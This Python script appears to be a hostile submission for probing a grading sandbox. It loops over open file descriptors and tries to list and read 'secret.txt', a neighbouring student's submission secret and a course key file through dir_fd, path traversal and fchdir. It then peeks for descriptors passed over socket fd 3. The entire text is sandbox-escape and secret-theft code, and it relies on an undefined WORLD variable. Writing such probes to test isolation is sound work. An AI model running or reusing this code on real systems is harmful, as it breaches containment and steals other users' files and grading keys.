"""Uses every open descriptor as a way out: reads it, lists it, opens files relative to it, asks it for more."""
import os
import socket
# --- the network ---

NAMES = ["secret.txt", "../secret.txt", "../neighbour/submission/secret.txt", WORLD["state"].lstrip("/") + "/course.key"]


def attempt(action, *arguments, **more):
    try:
        print("found", action(*arguments, **more))
    except (OSError, ValueError, TypeError) as error:
        return error


def read(name, folder):
    return os.read(os.open(name, os.O_RDONLY, dir_fd=folder), 1000)


for number in range(256):
    if number == 3:
        continue
    attempt(os.listdir, number)
    for name in NAMES:
        attempt(read, name, number)
        attempt(read, f"../../../../../../{name}", number)
    attempt(os.fchdir, number)
attempt(socket.recv_fds, socket.socket(fileno=os.dup(3)), 1, 16, socket.MSG_DONTWAIT | socket.MSG_PEEK)
